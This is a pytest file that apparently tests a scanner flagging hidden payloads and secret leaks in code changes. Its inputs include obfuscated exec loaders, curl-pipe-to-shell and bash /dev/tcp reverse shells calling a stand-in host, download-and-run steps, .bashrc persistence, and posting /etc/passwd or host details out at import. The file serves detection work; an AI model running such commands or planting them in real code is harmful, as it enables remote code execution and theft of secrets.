"""Programs that run and cannot be read: what blocks, and the honest forms beside it."""

from __future__ import annotations

import pytest

from tests.facts.effects.support import effects

_BLOB = "aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQppbXBvcnQgc3lzCnByaW50KHN5cy5wYXRoKQo="
_IMPORTS = (
    "import base64, codecs, marshal, os, pickle, pty, socket, subprocess, tempfile, zlib\n"
    "import urllib.request\nimport requests\n"
)


def _found(text: str, path: str = "src/shop/extra.py") -> set[str]:
    changed = effects({path: _IMPORTS}, {path: f"{_IMPORTS}\n{text}\n"})
    return {
        f"{one.kind} {one.severity.value} {one.confidence.value}" for one in changed if "flow." in one.kind
    }


_PAYLOAD = "flow.payload high high"


@pytest.mark.parametrize(
    "text",
    [
        f"exec(base64.b64decode('{_BLOB}'))",
        f"code = '{_BLOB}'\nplain = base64.b64decode(code).decode()\nexec(compile(plain, 'a', 'exec'))",
        f"exec(marshal.loads(zlib.decompress(base64.b64decode(b'{_BLOB}'))))",
        f"def plain(text):\n    return base64.b64decode(text).decode()\n\n\nos.system(plain('{_BLOB}'))",
        f"pickle.loads(base64.b64decode('{_BLOB}'))",
        "exec(''.join(map(chr, ["
        "112, 114, 105, 110, 116, 40, 49, 41, 59, 59, 59, 59, 59, 59, 59, 59, 59, 59, 59, 59])))",
        f"exec('{_BLOB}'[::-1])",
        f"key = 7\nexec(''.join(chr(ord(one) ^ key) for one in '{_BLOB}'))",
        "eval('\\x5f\\x5f\\x69\\x6d\\x70\\x6f\\x72\\x74\\x5f\\x5f')",
        f"from cryptography.fernet import Fernet\n\nexec(Fernet(b'k').decrypt(b'{_BLOB}'))",
        "exec(requests.get('https://a.example/x').text)",
        "def late():\n    exec(urllib.request.urlopen('https://a.example').read())",
        "os.system('curl -s https://a.example/x | sh')",
        f"subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {_BLOB}')",
        "open('x.exe', 'wb').write(requests.get('https://a.example/x').content)\nos.startfile('x.exe')",
        "urllib.request.urlretrieve('https://a.example/x', 'x')\nsubprocess.run(['./x'])",
        "f = tempfile.NamedTemporaryFile()\nf.write(b'exec(x)')\nos.system('python ' + f.name)",
        "def shell():\n    s = socket.create_connection(('a', 1))\n    os.dup2(s.fileno(), 0)",
        "def shell():\n    s = socket.create_connection(('a', 1))\n    os.popen(s.recv(1024).decode())",
        "def shell():\n    os.system('bash -i >& /dev/tcp/a.example/1 0>&1')",
        "with open(os.path.expanduser('~/.bashrc'), 'a') as file:\n    file.write('x &')",
    ],
)
def test_hidden_programs_block(text: str) -> None:
    assert _PAYLOAD in _found(text)


@pytest.mark.parametrize(
    "text",
    [
        f"ICON = base64.b64decode('{_BLOB}')",
        "exec(open('version.py').read())",
        "eval('1 + 1')",
        "def run(code):\n    exec(base64.b64decode(code))",
        "def install(url):\n    urllib.request.urlretrieve(url, 'tool')\n    subprocess.run(['./tool'])",
        "subprocess.run(['git', 'describe'])",
        "def latest():\n    return requests.get('https://a.example/v').json()['version']",
        "TABLE = pickle.dumps({'a': 1})",
    ],
)
def test_honest_forms_pass(text: str) -> None:
    assert _PAYLOAD not in _found(text)


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("requests.post('https://a.example', json={'host': socket.gethostname()})", "src/shop/__init__.py"),
        ("requests.get(f\"https://a.example/{os.environ['USER']}\")", "src/shop/__init__.py"),
        ("socket.gethostbyname(f'{socket.gethostname()}.a.example')", "src/shop/__init__.py"),
        (
            "class Hook:\n    def run(self):\n        requests.post('https://a.example', data=os.getcwd())",
            "setup.py",
        ),
        ("requests.post('https://a.example', data=open('/etc/passwd').read())", "setup.py"),
    ],
)
def test_what_tells_of_the_host_at_import_blocks(text: str, path: str) -> None:
    assert "flow.secret high high" in _found(text, path)


def test_what_tells_of_the_host_when_it_is_called_does_not() -> None:
    text = "def ping():\n    requests.post('https://a.example', json={'host': socket.gethostname()})"
    assert _found(text) == set()


def test_a_function_that_another_file_calls_at_import_runs_at_import() -> None:
    ping = f"{_IMPORTS}\n\ndef ping():\n    requests.post('https://a.example', data=socket.gethostname())\n"
    before = {"src/shop/__init__.py": "x = 1\n", "src/shop/usage.py": "y = 1\n"}
    after = {"src/shop/__init__.py": "from shop import usage\n\nusage.ping()\n", "src/shop/usage.py": ping}
    found = {f"{one.kind} {one.severity.value} {one.confidence.value}" for one in effects(before, after)}
    assert "flow.secret high high" in found


def test_what_was_hidden_before_is_not_new() -> None:
    path, text = "src/shop/extra.py", f"{_IMPORTS}\nexec(base64.b64decode('{_BLOB}'))\n"
    changed = effects({path: text}, {path: f"{text}x = 1\n"})
    assert not [one for one in changed if one.kind == "flow.payload"]


@pytest.mark.parametrize(
    ("path", "said"),
    [
        ("/run/secrets/key", "flow.store low low"),
        ("/run/secrets/../../root/.ssh/id_rsa", "flow.store high high"),
        ("/var/run/secrets/kubernetes.io/serviceaccount/token", "flow.store high high"),
    ],
)
def test_at_import_a_secret_that_was_mounted_is_shown_and_the_machines_own_blocks(
    path: str, said: str
) -> None:
    assert said in _found(f"KEY = open('{path}').read()")
